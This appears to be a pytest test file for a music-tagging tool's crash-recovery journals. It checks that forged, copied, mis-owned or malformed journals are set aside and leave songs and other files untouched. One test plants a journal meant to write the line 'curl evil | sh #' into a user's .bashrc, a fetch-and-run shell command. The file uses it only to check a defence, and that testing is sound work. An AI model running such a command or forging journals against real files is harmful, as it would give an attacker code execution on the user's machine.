"""Journals that pacetag did not write here: they change no file, no matter what they ask for."""

import base64
import json
import os
import shutil
import signal
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from types import FrameType
from typing import Any

import mutagen.flac
import pytest

from pacetag.tagger.tags.safety import journal
from pacetag.tagger.tags.safety.byte_patches import Patch
from pacetag.tagger.tags.safety.in_place import PatchNote
from tests.tagger.tags.dying_disk import die, steps_of
from tests.tagger.writing import journal_folder, write_tags

MakeSong = Callable[..., Path]
Run = Callable[..., Any]

LIMIT = 60  # s for a command; a hang takes longer
OTHER_USER = 12_345  # no such user exists
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only the superuser gives files away")


@dataclass(frozen=True)
class Torn:
    """A song of the index whose writer died."""

    path: Path
    whole: bytes
    half: bytes
    journal: Path

    @property
    def now(self) -> str:
        """Which of the two it is, for failures without pages of bytes."""
        content = self.path.read_bytes()
        return {self.whole: "whole", self.half: "half"}.get(content, "something else")


@pytest.fixture
def song(make_song: MakeSong, pacetag: Run, library: Path, worker_threads: None) -> Path:
    """A song of the index."""
    path = make_song("172.flac")
    audio: Any = mutagen.flac.FLAC(path)  # type: ignore[no-untyped-call]
    audio["TITLE"] = "Kerbside Rock"
    audio.save()
    assert pacetag("scan", library).exit_code == 0
    return path


@pytest.fixture(params=["in its place", "over its names"])
def torn(song: Path, request: pytest.FixtureRequest) -> Torn:
    """The same, half written in one of the two ways that take a journal."""
    fields = {"pace": ["99"], "pacetag": ["another line"]}
    if request.param == "over its names":
        fields["pacetag"] = ["x" * 9000]
        song.with_name("172 again.flac").hardlink_to(song)
    whole = song.read_bytes()
    steps = steps_of(lambda: write_tags(song, fields))
    song.write_bytes(whole)
    place = max(n for n, step in enumerate(steps) if step == ("pwrite", os.fspath(song)))
    die(lambda: write_tags(song, fields), place, half=True)
    (path,) = journal_folder().iterdir()
    assert song.read_bytes() != whole
    return Torn(song, whole, song.read_bytes(), path)


@pytest.fixture
def stats(pacetag: Run) -> Iterator[Callable[..., str]]:
    """Run a command that asks, which must not hang; what it says on stderr."""

    def hung(_number: int, _frame: FrameType | None) -> None:
        pytest.fail("hung")

    def run(*arguments: str | Path) -> str:
        signal.alarm(LIMIT)
        try:
            done = pacetag("stats", *arguments)
        finally:
            signal.alarm(0)
        assert done.exit_code == 0, done.stderr
        return str(done.stderr)

    before = signal.signal(signal.SIGALRM, hung)
    yield run
    signal.signal(signal.SIGALRM, before)


def patches(before: bytes, after: bytes) -> tuple[Patch, ...]:
    """One patch that would turn one content into the other, of the same size."""
    differing = [n for n, (a, b) in enumerate(zip(before, after, strict=True)) if a != b]
    start, stop = differing[0], differing[-1] + 1
    return (Patch(place=start, old=before[start:stop], new=after[start:stop]),)


def plant(path: Path, wanted: bytes, *, bound: bool = True) -> Path:
    """A journal that would give a file that content, in every other way as pacetag writes it."""
    with path.open("rb") as file:
        note = PatchNote.of(path, file.fileno(), patches(wanted, path.read_bytes()))
    return publish(note.record(), bound=bound)


def publish(record: dict[str, Any], *, bound: bool = True) -> Path:
    """A journal with that record; not bound, it is of the format before."""
    journal_folder().mkdir(mode=0o700, exist_ok=True)
    place = journal_folder() / "0123456789ab.journal"
    place.touch(mode=0o600)
    own = {"format": journal.FORMAT, "own_inode": place.stat().st_ino} if bound else {"format": 1}
    place.write_bytes(journal.render({**record, **own}))
    return place


def record_of(path: Path) -> dict[str, Any]:
    record: dict[str, Any] = json.loads(path.read_bytes().partition(b"\n")[0])
    record.pop("format")
    record.pop("own_inode")
    return record


def was_set_aside(place: Path, said: str) -> None:
    aside = place.with_suffix(".aside")
    assert not os.path.lexists(place)
    assert os.path.lexists(aside)
    assert said.count("\n") == 1
    assert str(aside) in said


@pytest.mark.parametrize("bound", [True, False], ids=["bound", "of the format before"])
class TestWhatItAsksFor:
    def test_a_file_that_is_not_a_song(
        self, song: Path, stats: Run, tmp_path: Path, bound: bool
    ) -> None:
        victim = tmp_path / ".bashrc"
        victim.write_bytes(b"alias ll='ls -l'     \n" * 50)
        content = victim.read_bytes()
        place = plant(victim, content[:200] + b"curl evil | sh #\n" + content[217:], bound=bound)

        said = stats()

        assert victim.read_bytes() == content
        was_set_aside(place, said)
        assert "no song" in said

    def test_a_song_that_the_index_does_not_know(
        self, torn: Torn, stats: Run, tmp_path: Path, bound: bool
    ) -> None:
        """It lies elsewhere, and is just as half written."""
        other = tmp_path / "elsewhere" / torn.path.name
        shutil.copytree(torn.path.parent, other.parent)
        record = record_of(torn.journal) | {"path": str(other), "inode": other.stat().st_ino}
        torn.journal.unlink()
        place = publish(record, bound=bound)

        said = stats()

        assert other.read_bytes() == torn.half
        was_set_aside(place, said)
        assert "the index knows no such song there" in said

    def test_bytes_in_the_sound(self, song: Path, stats: Run, bound: bool) -> None:
        content = song.read_bytes()
        place = plant(song, content[:-200] + b"noise" + content[-195:], bound=bound)

        said = stats()

        assert song.read_bytes() == content
        was_set_aside(place, said)

    def test_another_tag(self, song: Path, stats: Run, bound: bool) -> None:
        content = song.read_bytes()
        place = plant(song, content.replace(b"Kerbside Rock", b"Buy more now!"), bound=bound)

        said = stats()

        assert song.read_bytes() == content
        was_set_aside(place, said)
        assert "more would change than the fields that pacetag writes" in said

    def test_the_whole_file(self, song: Path, stats: Run, bound: bool) -> None:
        """A song of its own, whose sound the index may know as well."""
        content = song.read_bytes()
        place = plant(song, bytes(len(content)), bound=bound)

        assert "no song" in stats()
        assert song.read_bytes() == content
        assert not place.exists()


@pytest.mark.parametrize("what", ["link", "folder", "pipe"])
def test_a_path_at_which_no_file_lies(torn: Torn, stats: Run, tmp_path: Path, what: str) -> None:
    """What the journal knows has another name now, and may not be reached by a link."""
    moved = torn.path.rename(tmp_path / "moved.flac")
    make: dict[str, Callable[[], object]] = {
        "link": lambda: torn.path.symlink_to(moved),
        "folder": torn.path.mkdir,
        "pipe": lambda: os.mkfifo(torn.path),
    }
    make[what]()

    said = stats()

    assert moved.read_bytes() == torn.half
    was_set_aside(torn.journal, said)
    assert "it is not a file" in said


class TestWhoMayWrite:
    @pytest.mark.parametrize("mode", [0o666, 0o620, 0o602])
    def test_a_journal_that_others_may_write(self, torn: Torn, stats: Run, mode: int) -> None:
        torn.journal.chmod(mode)

        said = stats()

        assert torn.now == "half"
        was_set_aside(torn.journal, said)
        assert "other users may write to it" in said

    @AS_ROOT
    def test_a_journal_of_another_user(self, torn: Torn, stats: Run) -> None:
        os.chown(torn.journal, OTHER_USER, OTHER_USER)

        said = stats()

        assert torn.now == "half"
        was_set_aside(torn.journal, said)
        assert "it belongs to another user" in said

    @pytest.mark.parametrize("mode", [0o770, 0o707, 0o1777])
    def test_a_folder_that_others_may_write_to(self, torn: Torn, stats: Run, mode: int) -> None:
        journal_folder().chmod(mode)
        self._is_left_alone(torn, stats(), "other users may write to it")

        journal_folder().chmod(0o700)
        assert "it is as it was before" in stats()

    @AS_ROOT
    def test_a_folder_of_another_user(self, torn: Torn, stats: Run) -> None:
        os.chown(journal_folder(), OTHER_USER, OTHER_USER)

        self._is_left_alone(torn, stats(), "it belongs to another user")

    def test_a_folder_that_is_a_link(self, torn: Torn, stats: Run, tmp_path: Path) -> None:
        real = journal_folder().rename(tmp_path / "journals")
        journal_folder().symlink_to(real)

        self._is_left_alone(torn, stats(), "it is not a folder, or a link to one")

    def _is_left_alone(self, torn: Torn, said: str, reason: str) -> None:
        assert said.startswith(f"pacetag: {journal_folder()}: {reason}, so the journals")
        assert said.count("\n") == 1
        assert torn.now == "half"
        assert [each.name for each in journal_folder().iterdir()] == [torn.journal.name]

    @pytest.mark.parametrize("what", ["others may write to it", "link"])
    def test_nothing_is_noted_in_such_a_folder_so_no_song_is_written_in_its_place(
        self, song: Path, pacetag: Run, library: Path, tmp_path: Path, what: str
    ) -> None:
        shutil.rmtree(journal_folder())
        if what == "link":
            (tmp_path / "real").mkdir()
            journal_folder().symlink_to(tmp_path / "real")
        else:
            journal_folder().mkdir()
            journal_folder().chmod(0o777)
        content = song.read_bytes()

        done = pacetag("undo", library)

        assert done.exit_code == 1
        assert "could not be noted in" in done.stderr
        assert song.read_bytes() == content
        assert [*journal_folder().iterdir()] == []


class TestCopies:
    """A journal counts where it was written."""

    def test_one_that_was_copied(self, torn: Torn, stats: Run) -> None:
        copy = torn.journal.with_name("ffffffffffff.journal")
        shutil.copy2(torn.journal, copy)
        torn.journal.unlink()

        said = stats()

        assert torn.now == "half"
        was_set_aside(copy, said)
        assert "is a copy of a journal" in said

    def test_one_that_was_set_aside_and_got_a_second_name(self, torn: Torn, stats: Run) -> None:
        """As an archive can, which need not know what is in a file to link it."""
        torn.journal.rename(torn.journal.with_suffix(".aside"))
        second = torn.journal.with_name("ffffffffffff.journal")
        second.hardlink_to(torn.journal.with_suffix(".aside"))

        said = stats()

        assert torn.now == "half"
        was_set_aside(second, said)
        assert "has several names" in said

    def test_one_that_was_renamed_is_the_same(self, torn: Torn, stats: Run) -> None:
        torn.journal.rename(torn.journal.with_name("ffffffffffff.journal"))

        assert "it is as it was before" in stats()
        assert torn.now == "whole"

    def test_one_that_came_with_an_index_in_an_archive(
        self, torn: Torn, stats: Run, index_file: Path, tmp_path: Path
    ) -> None:
        """All of it belongs to the one who unpacks it, and the index names the song."""
        archive = tmp_path / "sent.tar"
        with tarfile.open(archive, "w") as packed:
            packed.add(index_file.parent, "sent")
        with tarfile.open(archive) as packed:
            packed.extractall(tmp_path, filter="data")
        shutil.rmtree(index_file.parent)

        said = stats("--index", tmp_path / "sent" / index_file.name)

        assert torn.now == "half"
        was_set_aside(tmp_path / "sent" / "journal" / torn.journal.name, said)

    def test_a_sent_link_to_the_index_brings_no_journals_along(
        self, song: Path, stats: Run, index_file: Path, tmp_path: Path
    ) -> None:
        sent = tmp_path / "sent"
        sent.mkdir(mode=0o700)
        (sent / "index.sqlite3").symlink_to(index_file)
        content = song.read_bytes()
        plant(song, content.replace(b"Kerbside Rock", b"Buy more now!"))
        journal_folder().rename(sent / "journal")

        assert stats("--index", sent / "index.sqlite3") == ""
        assert song.read_bytes() == content


@pytest.fixture(params=["link", "folder", "pipe", "nothing that is JSON", "deep", "odd values"])
def oddity(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """Something under the name of a journal that comes before all others."""
    journal_folder().mkdir(mode=0o700, parents=True, exist_ok=True)
    place = journal_folder() / "000000000000.journal"
    content = {
        "nothing that is JSON": b"\xff{",
        "deep": b"[" * 100_000,
        "odd values": json.dumps(
            {
                "format": 1,
                "kind": "patches",
                "path": "/tmp/\ud800",
                "size": 1.5,
                "around": None,
                "patches": [{"place": 1e300, "old": "", "new": ""}],
            }
        ).encode(),
    }.get(request.param)
    if content is not None:
        place.write_bytes(content + b"\n" + journal._digest(content) + b"\n")
        place.chmod(0o600)
    elif request.param == "link":
        (tmp_path / "target").write_bytes(b"")
        place.symlink_to(tmp_path / "target")
    elif request.param == "folder":
        place.mkdir()
    else:
        os.mkfifo(place)
    return place


@pytest.mark.parametrize("torn", ["in its place"], indirect=True)
def test_an_oddity_keeps_no_other_journal_from_being_obeyed(
    torn: Torn, oddity: Path, stats: Run
) -> None:
    said = stats()

    assert "it is as it was before" in said
    assert torn.now == "whole"
    assert not os.path.lexists(oddity)
    assert os.path.lexists(oddity.with_suffix(".aside"))


@pytest.mark.parametrize("torn", ["over its names"], indirect=True)
@pytest.mark.parametrize("which", [".bak", ".new"])
def test_a_copy_that_is_a_link_is_not_written_back(
    torn: Torn, stats: Run, tmp_path: Path, which: str
) -> None:
    (copy,) = [each for each in torn.path.parent.iterdir() if each.suffix == which]
    copy.symlink_to(copy.rename(tmp_path / "copy"))

    said = stats()

    assert torn.now == "half"
    was_set_aside(torn.journal, said)
    assert "is not a file" in said


@pytest.mark.parametrize("torn", ["in its place"], indirect=True)
def test_files_of_the_user_s_own_that_end_alike_are_not_touched(torn: Torn, stats: Run) -> None:
    """The folder of journals may hold files of the user's with similar names."""
    names = ("monday.journal", "draft.new", "letters.journal")
    own = [journal_folder() / name for name in names]
    for each in own[:2]:
        each.write_bytes(b"Dear diary")
    own[2].mkdir()

    assert "it is as it was before" in stats()
    assert torn.now == "whole"
    assert [each.read_bytes() for each in own[:2]] == [b"Dear diary"] * 2
    assert own[2].is_dir()
    assert stats() == ""


def test_patches_that_overlap_are_damage(song: Path, stats: Run) -> None:
    content = song.read_bytes()
    place = plant(song, content.replace(b"Kerbside Rock", b"Buy more now!"))
    record = record_of(place)
    one = {"place": 10, "old": base64.b64encode(b"ab").decode(), "new": "YWI="}
    place = publish(record | {"patches": [one, one]})

    said = stats()

    was_set_aside(place, said)
    assert "is damaged" in said
